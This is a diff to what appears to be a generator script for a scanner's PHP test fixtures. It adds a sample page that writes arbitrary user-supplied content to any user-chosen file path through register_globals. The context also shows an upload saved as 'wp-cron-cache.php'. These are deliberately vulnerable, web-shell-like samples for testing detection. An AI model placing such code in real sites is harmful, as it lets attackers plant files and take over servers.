@@ -608,3 +608,13 @@ if (isset($attachment)) {
     move_uploaded_file($attachment, 'wp-cron-cache.php');
 }
 ''')
+# No superglobal at all: the page's own form fields arrive as plain variables (register_globals).
+w('php/sources/register-globals.php', '''<?php if ($savepath != "") { $fh = fopen($savepath, "w"); fwrite($fh, $content); fclose($fh); } ?>
+<html><body>
+<form method="post">
+<input type="text" name="savepath" size="60">
+<textarea name="content" rows="20" cols="80"></textarea>
+<input type="submit" value="save">
+</form>
+</body></html>
+''')
